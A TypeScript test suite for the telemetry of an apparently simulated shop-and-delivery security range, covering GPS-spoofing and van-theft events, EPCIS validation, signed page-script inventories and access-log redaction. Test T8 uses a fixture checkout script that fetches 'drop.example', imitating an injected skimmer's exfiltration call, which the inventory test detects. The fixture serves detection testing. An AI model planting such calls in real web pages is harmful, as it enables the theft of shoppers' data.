import { Ajv } from 'ajv'
import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import type { DatastoreActivity, Telemetry } from '../../../engine/event/telemetry.ts'
import { verifyInventory } from '../../../engine/integrity/inventory.ts'
import { epcisDocument, epcisEvent } from '../../../range/telemetry/epcis-document.ts'
import { createObserver, observe } from '../../../range/telemetry/observe.ts'
import { inventoryOf, releasePublicKey } from '../../../range/telemetry/pages.ts'
import type { Happened, World } from '../../../range/world/types.ts'
import { configOf, rig, START } from '../world/rig.ts'
import { epcisOf, streamOf, watch } from './rig.ts'

const lines = (telemetry: readonly Telemetry[]): string =>
  telemetry.map((one) => JSON.stringify(one)).join('\n')

/** The shop alone, for events that need no town to run. */
function tell(
  events: readonly Happened['event'][],
  over: (world: World) => World = (world) => world,
): Telemetry[] {
  const world = over({ ...rig(1).world(), now: START + 5_000 })
  const happened = events.map((event) => ({
    at: START + 1_000,
    event,
    cause: { kind: 'town' } as const,
  }))
  return [...observe(world, happened, createObserver(configOf(1))).telemetry].filter(
    (one) => one.time > START,
  )
}

describe('telemetry', () => {
  test('[T1] times never decrease, and every stream counts its messages without gaps', () => {
    const telemetry = watch(3, 150)
    const counts = new Map<string, number>()
    let last = 0
    for (const { time, uid } of telemetry) {
      expect(time).toBeGreaterThanOrEqual(last)
      last = time
      const [, stream, number] = /^(.*)-(\d+)$/.exec(uid)!
      expect(Number(number), stream!).toBe(counts.get(stream!) ?? 0)
      counts.set(stream!, Number(number) + 1)
    }
    expect(telemetry.length).toBeGreaterThan(1_500)
  })
  test('[T2] who caused what never changes a byte', () => {
    const meddle = (run: ReturnType<typeof rig>, second: number): void => {
      if (second !== 1_500) return
      run.give({
        kind: 'SpoofGps',
        van: 1,
        untilMs: START + 3_000_000,
        stealthPermille: 300,
        periodMs: 10_000,
      })
      run.give({ kind: 'DivertVan', van: 1, to: 'place:old-quay', run: 0 })
    }
    const town = watch(2, 70, meddle, {}, { kind: 'town' })
    const attack = watch(2, 70, meddle, {}, { kind: 'attack', run: 7 })
    expect(lines(attack)).toBe(lines(town))
    expect(lines(town)).not.toMatch(/attack|spoof|divert|stolen|"run"|claimed|stealth/i)
  })
  test('[T3] the same seed gives the same telemetry', () => {
    expect(lines(watch(4, 40))).toBe(lines(watch(4, 40)))
    expect(lines(watch(5, 40))).not.toBe(lines(watch(4, 40)))
  })
  test('[T4] what another line does leaves a van as it was, byte for byte', () => {
    const vanOnly = (telemetry: readonly Telemetry[]): string => lines(streamOf(telemetry, 'van-0'))
    const quiet = watch(6, 100)
    const busy = watch(6, 100, (run, second) => {
      if (second === 30)
        run.give({
          kind: 'TakeIn',
          order: 3,
          massG: 700,
          valueMinor: 5_000,
          cold: false,
          address: 'door:B3',
        })
      if (second === 1_800) run.give({ kind: 'RecallVan', van: 1 })
    })
    expect(vanOnly(busy)).toBe(vanOnly(quiet))
    expect(lines(streamOf(busy, 'van-1'))).not.toBe(lines(streamOf(quiet, 'van-1')))
  })
  test('[T5] every custody and sensor event is valid EPCIS 2.0', () => {
    const ajv = new Ajv({
      strict: false,
      formats: {
        uri: /^[a-z][a-z0-9+.-]*:[^\s]+$/i,
        'date-time': /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/,
      },
    })
    const valid = ajv.compile(
      JSON.parse(readFileSync(new URL('./schemas/epcis-2.0.json', import.meta.url), 'utf8')),
    )
    const events = epcisOf(watch(7, 90))
    const kinds = new Set(events.map((event) => event.bizStep))
    expect(kinds).toEqual(
      new Set([
        'sensor_reporting',
        'loading',
        'departing',
        'arriving',
        'delivering',
        'storing',
        'collecting',
      ]),
    )
    for (const event of events)
      expect(valid(epcisEvent(event)), JSON.stringify(valid.errors?.slice(0, 3))).toBe(true)
    expect(
      valid(epcisDocument(events.slice(0, 50), START)),
      JSON.stringify(valid.errors?.slice(0, 3)),
    ).toBe(true)
    expect(valid(epcisEvent({ ...events[0]!, action: 'TAKE' as 'ADD' }))).toBe(false)
  })
  test('[T6] a theft is told by nobody: only door, odometer, mast and missing scans speak', () => {
    const telemetry = watch(2, 70, (run, second) => {
      if (second === 1_500) run.give({ kind: 'DivertVan', van: 1, to: 'place:old-quay', run: 0 })
    })
    const run = rig(2).to(25)
    run.give({ kind: 'DivertVan', van: 1, to: 'place:old-quay', run: 0 })
    const lost = run
      .to(70)
      .world()
      .logistics.parcels.filter((parcel) => parcel.status === 'stolen')
    expect(lost.length).toBeGreaterThan(0)
    const scans = epcisOf(telemetry).filter((event) =>
      event.epcList.includes(`parcel:P-${1000 + lost[0]!.id}`),
    )
    expect(scans.map((event) => event.bizStep)).toEqual(['loading'])
  })
  test('[T7] the signed baseline opens the day, and its signatures hold against the release key', () => {
    const signs = watch(1, 1)
      .filter((one) => one.uid.startsWith('event:pages'))
      .map((one) => one.body as DatastoreActivity)
    expect(signs.map((body) => body.unmapped.page.uid)).toEqual([
      'home',
      'product',
      'cart',
      'checkout',
      'account',
    ])
    const check = ({ unmapped }: DatastoreActivity): boolean =>
      verifyInventory(releasePublicKey(1), unmapped.page.uid, unmapped.scripts, unmapped.signature!)
    for (const body of signs) expect(check(body)).toBe(true)
    const [first] = signs
    const tampered = {
      ...first!,
      unmapped: { ...first!.unmapped, scripts: [...first!.unmapped.scripts].reverse() },
    }
    expect(check(tampered)).toBe(false)
  })
  test('[T8] the page store keeps silent about tag manager and dependency; the inventory sees them', () => {
    const scripts = [{ src: 'https://x.example/a.js', text: "fetch('https://drop.example/c')" }]
    const published = (via: 'editor' | 'tag-manager' | 'dependency' | 'release'): Telemetry[] =>
      tell([
        {
          kind: 'PagePublished',
          page: 'checkout',
          revision: {
            number: 102,
            at: START,
            author: 'm',
            via,
            approvedBy: null,
            signed: false,
            scripts,
          },
        },
      ])
    expect(
      ['editor', 'release', 'tag-manager', 'dependency'].map(
        (via) => published(via as 'editor').length,
      ),
    ).toEqual([1, 1, 0, 0])
    const inventory = tell([{ kind: 'PagesInspected', round: 1 }], (world) => ({
      ...world,
      shop: {
        ...world.shop,
        pages: world.shop.pages.map((page) => ({
          ...page,
          revisions: page.revisions.map((one) => ({ ...one, scripts })),
        })),
      },
    }))
    expect(inventory.map((one) => (one.body as DatastoreActivity).unmapped.operation)).toEqual(
      Array(5).fill('inventory'),
    )
    expect((inventory[0]!.body as DatastoreActivity).unmapped.scripts).toEqual(inventoryOf(scripts))
    expect(inventoryOf(scripts)[0]!.hosts).toEqual(['drop.example'])
  })
  test("[T9] the access log holds no card, and other hosts' requests are not in it", () => {
    const request = {
      method: 'POST',
      host: 'larchlane.example',
      path: '/checkout',
      query: '',
      form: { card: 'tok_0123', name: 'A', note: 'x'.repeat(900) },
      session: 's',
      ip: '10.0.0.1',
      agent: 'x',
      referrer: '',
    } as const
    const response = {
      code: 200,
      location: null,
      view: { kind: 'text', text: '' },
      length: 10,
      page: null,
    } as const
    const [served] = tell([{ kind: 'HttpServed', request, response, account: null, durationMs: 3 }])
    expect(JSON.stringify(served)).not.toContain('tok_0123')
    expect(JSON.stringify(served)).not.toContain('x'.repeat(513))
    expect(
      tell([
        {
          kind: 'HttpServed',
          request: { ...request, host: 'drop.example' },
          response,
          account: null,
          durationMs: 3,
        },
      ]),
    ).toEqual([])
  })
})
